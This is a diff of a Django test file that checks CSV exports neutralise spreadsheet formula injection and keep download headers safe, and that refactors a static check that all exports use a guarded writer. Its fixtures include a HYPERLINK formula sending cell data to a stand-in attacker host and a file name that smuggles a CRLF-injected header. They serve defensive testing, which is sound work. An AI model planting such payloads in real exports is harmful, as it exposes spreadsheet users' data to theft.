@@ -6,6 +6,7 @@ browser intact in a header Django built."""
 import ast
 import csv
 import io
+import os
 import uuid
 from decimal import Decimal
 from email.message import Message
@@ -19,9 +20,8 @@ from core.csv import csv_writer
 from tramites_bridge.models import Cabina, CabinaAgent, Office, Procedure, Submission
 from tramites_bridge.tests.factories import ProcedureFactory, citizen_fields, pdf_upload
 
-pytestmark = pytest.mark.django_db
-
 ROOT = Path(__file__).resolve().parent.parent
+SKIPPED = {"tests", "var", "media", "staticfiles", "node_modules", "__pycache__"}
 HYPERLINK = '=HYPERLINK("http://malo.example/robar?d="&A1,"Ver detalle")'
 TRICKY_NAME = 'Cabina "El Ñandú"; Jr. Álamos\r\nX-Inyectado: sí'
 
@@ -65,35 +65,39 @@ def _assert_header_is_safe(response, expected_name: str) -> None:
         (True, "True"),
     ],
 )
-@pytest.mark.django_db(False)
 def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, written):
     out = io.StringIO()
     csv_writer(out).writerow(["x", value])
     assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["x", written]]
 
 
-@pytest.mark.django_db(False)
 def test_no_module_writes_csv_around_the_guard():
     """Every export goes through core.csv: nothing else calls csv.writer or csv.DictWriter."""
     offenders = []
-    for path in ROOT.rglob("*.py"):
-        relative = path.relative_to(ROOT)
-        if relative.parts[0] in {".venv", "var", "tests"} or "tests" in relative.parts:
-            continue
-        if relative == Path("core/csv.py"):
-            continue
-        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            if (
-                isinstance(node, ast.Attribute)
-                and isinstance(node.value, ast.Name)
-                and node.value.id == "csv"
-                and node.attr in {"writer", "DictWriter"}
-            ):
-                offenders.append(f"{relative}:{node.lineno}")
+    for folder, subfolders, files in os.walk(ROOT):
+        subfolders[:] = [d for d in subfolders if not d.startswith(".") and d not in SKIPPED]
+        for name in files:
+            path = Path(folder, name)
+            if name.endswith(".py") and path != ROOT / "core" / "csv.py":
+                offenders += _csv_writer_calls(path)
     assert offenders == []
 
 
+def _csv_writer_calls(path: Path) -> list[str]:
+    found = []
+    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+        if (
+            isinstance(node, ast.Attribute)
+            and isinstance(node.value, ast.Name)
+            and node.value.id == "csv"
+            and node.attr in {"writer", "DictWriter"}
+        ):
+            found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
+    return found
+
+
 # --- the coaches' progress export -----------------------------------------------------------------
+@pytest.mark.django_db
 def test_the_coach_export_writes_a_formula_named_student_as_text(client_for, users):
     from lms.services import ProgressEventIn, progress_events_record
     from lms.tests.factories import (
@@ -133,6 +137,7 @@ def test_the_coach_export_writes_a_formula_named_student_as_text(client_for, use
     assert cells["porcentaje_visto"] == "50"
 
 
+@pytest.mark.django_db
 def test_the_coach_export_names_the_file_after_a_course_with_accents(client_for, users):
     from lms.tests.factories import course_coach_add, course_create
 
@@ -168,6 +173,7 @@ def cabina_with_a_reversal(api_client_for, client_for, make_user):
     return cabina, agent
 
 
+@pytest.mark.django_db
 def test_the_desk_ledger_export_guards_cells_and_keeps_amounts_numbers(
     client_for, cabina_with_a_reversal
 ):
@@ -181,6 +187,7 @@ def test_the_desk_ledger_export_guards_cells_and_keeps_amounts_numbers(
     assert rows[-2] == ["reversiones", "1", "", "", "-4.00"]
 
 
+@pytest.mark.django_db
 def test_the_desk_ledger_export_names_the_file_after_the_cabina_safely(
     client_for, cabina_with_a_reversal
 ):
@@ -195,6 +202,7 @@ def test_the_desk_ledger_export_names_the_file_after_the_cabina_safely(
 
 
 # --- the back office: settlements and statistics --------------------------------------------------
+@pytest.mark.django_db
 def test_the_settlements_export_writes_a_formula_named_cabina_as_text(
     client_for, cabina_with_a_reversal
 ):
@@ -211,6 +219,7 @@ def test_the_settlements_export_writes_a_formula_named_cabina_as_text(
     assert cells["total_a_pagar_soles"] == "0.00"
 
 
+@pytest.mark.django_db
 def test_the_statistics_export_writes_a_formula_named_office_as_text(client, client_for):
     office = Office.objects.create(name=HYPERLINK)
     procedure = ProcedureFactory(tupa_code="LF-01", office=office)
@@ -251,6 +260,7 @@ def _rundown_cells(content: bytes) -> list[dict]:
     return [dict(zip(header, row, strict=True)) for row in rows if row[4]]
 
 
+@pytest.mark.django_db
 def test_the_rundown_writes_a_formula_titled_episode_as_text(client, formula_rundown):
     start, end = formula_rundown
     response = client.get("/broadcast/feeds/rundown.csv", {"from": start, "to": end})
@@ -262,6 +272,7 @@ def test_the_rundown_writes_a_formula_titled_episode_as_text(client, formula_run
     assert {a["conductoras"] for a in airings} == {"'@Rosa Cueva"}
 
 
+@pytest.mark.django_db
 def test_the_rundown_command_writes_the_same_guarded_cells(formula_rundown, tmp_path):
     start, end = formula_rundown
     target = tmp_path / "programacion.csv"
